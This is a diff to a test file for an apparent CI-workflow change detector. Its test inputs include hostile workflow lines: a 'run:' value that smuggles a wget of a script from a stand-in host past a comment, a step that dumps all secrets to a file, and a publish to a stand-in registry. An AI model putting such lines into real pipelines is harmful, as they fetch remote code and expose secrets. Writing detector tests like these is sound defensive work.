@@ -61,6 +61,7 @@ def test_what_honest_work_makes_of_a_workflow(tree: Tree, old: str, new: str) ->
     [
         ("uses: somebody/action@v1", {"automation-fetches"}),
         ("run: node -e 'a()'", {"automation-fetches"}),
+        ('run: "true #; \\n wget b.example/c.sh"', {"automation-fetches"}),
         ("run: echo '${{ toJSON(secrets) }}' > all.txt", {"automation-fetches"}),
         ("run: npm publish --registry=https://collect.example", {"new-host"}),
     ],
@@ -85,6 +86,7 @@ def test_a_new_file_has_nothing_that_was_there_before(tree: Tree) -> None:
         ("Makefile", True),
         (".gitlab-ci.yml", True),
         ("src/app/makefile.component.ts", False),
+        (".github/pull_request_template.md", False),
         ("docs/github/workflow.yml", False),
         ("src/assets/compose.svg", False),
     ],
